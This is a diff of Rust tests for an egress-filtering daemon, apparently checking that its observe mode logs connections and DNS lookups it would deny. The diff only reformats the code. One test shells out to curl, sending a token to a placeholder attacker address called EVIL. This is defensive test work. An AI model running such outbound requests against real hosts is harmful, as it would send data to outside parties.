@@ -14,7 +14,9 @@ fn observing_blocks_nothing_and_tells_everything() {
     let attach = job.attached("--allow ok.test --observe");
     let (code, status) = job.status();
     assert_eq!((code, &status["mode"]), (Some(0), &"observe".into()));
-    for (name, target) in [("ok", "ok.test"), ("name", "f.test"), ("address", "198.51.100.20"), ("v6", "[2001:db8::20]")] {
+    for (name, target) in
+        [("ok", "ok.test"), ("name", "f.test"), ("address", "198.51.100.20"), ("v6", "[2001:db8::20]")]
+    {
         assert_eq!(job.curl(target, &lab.token(name)), Some(0), "{target}");
         lab.expect_hits(&lab.token(name), 1);
     }
@@ -23,9 +25,8 @@ fn observing_blocks_nothing_and_tells_everything() {
     assert!(!lab.zone().queries_for("unlisted.test").is_empty(), "an unlisted name is asked for: {text}");
 
     let events = lines(lab.egressd("events").flags("--json --verdict would_deny").output().exits(0));
-    let told = |event: &str, key: &str, value: &str| {
-        events.iter().any(|one| one["event"] == event && one[key] == value)
-    };
+    let told =
+        |event: &str, key: &str, value: &str| events.iter().any(|one| one["event"] == event && one[key] == value);
     assert!(told("connect", "dst_ip", &EVIL.to_string()) && told("connect", "dst_ip", "2001:db8::20"), "{events:#?}");
     assert!(told("dns", "dst_name", "f.test"), "{events:#?}");
     let all = lines(lab.egressd("events").flags("--json").output().exits(0));
@@ -57,7 +58,11 @@ fn run_observes_and_ends_with_the_flags_that_would_be_needed() {
     // A policy that observes cannot be pinned: somebody must answer DNS.
     let job = Job::new(&lab, "job");
     job.attach("--observe --pin").output().exits(2).says("--pin");
-    lab.egressd("run").env("EGRESSD_OBSERVE", "true").sh(&format!("curl -sS -m3 http://{EVIL}/{}", lab.token("env"))).output().exits(7);
+    lab.egressd("run")
+        .env("EGRESSD_OBSERVE", "true")
+        .sh(&format!("curl -sS -m3 http://{EVIL}/{}", lab.token("env")))
+        .output()
+        .exits(7);
     assert_eq!(lab.hits(&lab.token("env")).len(), 0, "the environment opens nothing");
     assert!(lab.frames_to(DNS).len() > 1);
 }
